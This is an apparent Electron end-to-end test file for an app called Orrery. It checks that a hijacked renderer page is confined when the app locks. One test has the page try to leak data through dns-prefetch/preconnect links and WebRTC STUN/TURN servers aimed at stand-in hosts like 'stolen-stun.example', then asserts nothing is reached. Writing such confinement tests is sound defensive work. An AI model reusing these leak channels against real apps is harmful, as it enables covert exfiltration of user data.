/** A page that was taken over and would rather stay, or tell others: what locking and confinement do about it. */
import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs'
import { type AddressInfo, createServer } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { setUpWindow } from '../electron-runtime/setup'
import { chooseInMenu, launchIn, type Orrery, openOrrery, unlock } from './orrery'
import { settle } from './residents'

const setup = await setUpWindow()

describe.skipIf(setup === null)('a page that was taken over', () => {
  let home: string
  let orrery: Orrery
  beforeAll(async () => {
    if (setup === null) return
    home = mkdtempSync(join(tmpdir(), 'orrery-resisting-'))
    const resident = await settle(home, 'Dr. Johanna Kepler')
    resident.keystore.close()
    orrery = await openOrrery(launchIn(setup, home))
    await unlock(orrery)
  })
  afterAll(async () => {
    await orrery?.app.close()
    setup?.display.close()
    if (home) rmSync(home, { recursive: true })
  })

  /** Also of a page that the driver has lost. */
  const inPage = (code: string) =>
    orrery.app.evaluate(
      ({ BrowserWindow }, script) =>
        Promise.race([
          BrowserWindow.getAllWindows()[0]?.webContents.executeJavaScript(script).catch(String),
          new Promise((resolve) => setTimeout(() => resolve('busy'), 500)),
        ]),
      code,
    )
  const locks = async () => {
    await chooseInMenu(orrery, 'Lock')
    await expect
      .poll(() => inPage('document.body.innerText'), { timeout: 10_000 })
      .toContain('Orrery is locked')
    expect(await inPage('typeof window.stolen')).toBe('undefined')
  }

  test('reaches nobody: not by WebRTC, and not by names that are looked up ahead', async () => {
    const reached: string[] = []
    const udp = createSocket('udp4').on('message', () => reached.push('udp'))
    udp.bind(0, '127.0.0.1')
    const tcp = createServer(() => reached.push('tcp')).listen(0, '127.0.0.1')
    await Promise.all([once(udp, 'listening'), once(tcp, 'listening')])
    const log = join(home, 'net.json')
    await orrery.app.evaluate(({ netLog }, file) => netLog.startLogging(file), log)
    const ports = { udp: udp.address().port, tcp: (tcp.address() as AddressInfo).port }
    await orrery.page.evaluate(async (to) => {
      for (const rel of ['dns-prefetch', 'preconnect']) {
        const link = document.createElement('link')
        Object.assign(link, { rel, href: `http://stolen-${rel}.example/` })
        document.head.append(link)
      }
      const relay = { username: 'stolen', credential: 'x' }
      const iceServers = [
        { urls: `stun:127.0.0.1:${to.udp}` },
        { urls: 'stun:stolen-stun.example' },
        { urls: `turn:127.0.0.1:${to.tcp}?transport=tcp`, ...relay },
        { urls: `turn:127.0.0.1:${to.udp}?transport=udp`, ...relay },
      ]
      const connection = new RTCPeerConnection({ iceServers })
      connection.createDataChannel('stolen')
      await connection.setLocalDescription(await connection.createOffer())
      await new Promise((resolve) => setTimeout(resolve, 1500))
      connection.close()
    }, ports)
    await orrery.app.evaluate(({ netLog }) => netLog.stopLogging())
    udp.close()
    tcp.close()
    expect(reached).toEqual([])
    expect(readFileSync(log, 'utf8')).not.toContain('stolen-')
  })

  test('gets nothing written by a dialog that was open when it was locked, also after the next unlocking', async () => {
    const { app, page } = orrery
    await app.evaluate(({ dialog }, folder) => {
      const answers: (() => void)[] = []
      dialog.showSaveDialog = (...given: unknown[]) =>
        new Promise((resolve) => {
          const { defaultPath } = given.at(-1) as { defaultPath: string }
          answers.push(() => resolve({ canceled: false, filePath: `${folder}/late-${defaultPath}` }))
        })
      Object.assign(globalThis, { answers })
    }, home)
    await page.evaluate(() => {
      void window.orrery.exportAudit({ filter: {}, format: 'csv' })
      void window.orrery.saveOwnCard({ kind: 'x25519' })
      void window.orrery.backUpKeystore()
    })
    const asked = () => app.evaluate(() => (globalThis as unknown as { answers: unknown[] }).answers.length)
    await expect.poll(asked).toBe(3)
    await locks()
    await unlock(orrery)
    await app.evaluate(async () => {
      for (const answer of (globalThis as unknown as { answers: (() => void)[] }).answers) answer()
      await new Promise((resolve) => setTimeout(resolve, 500))
    })
    expect(readdirSync(home).filter((name) => name.startsWith('late-'))).toEqual([])
  })

  test('cannot ask to be kept when it is locked', async () => {
    const { page } = orrery
    await page.evaluate(() => {
      Object.assign(window, { stolen: 'a label' })
      window.addEventListener('beforeunload', (event) => event.preventDefault())
    })
    // Only a page that was touched may ask.
    await page.mouse.click(600, 500)
    await locks()
    await unlock(orrery)
  })

  test('leaves no empty window behind when it called itself otherwise', async () => {
    const { page } = orrery
    await page.evaluate(() => {
      Object.assign(window, { stolen: 'a label' })
      history.pushState(null, '', '/elsewhere')
    })
    await locks()
    await unlock(orrery)
  })

  test('is stopped when it is too busy to go', async () => {
    await orrery.page.evaluate(() => {
      Object.assign(window, { stolen: 'a label' })
      setTimeout(() => {
        for (const end = Date.now() + 30_000; Date.now() < end; );
      })
    })
    await orrery.app.evaluate(() => new Promise((resolve) => setTimeout(resolve, 300)))
    await locks()
    // The person did that: the new page has nothing to tell of one that stopped working.
    expect(await inPage('orrery.takeRestart().then(JSON.stringify)')).toBe('{"ok":true,"value":false}')
  })
})
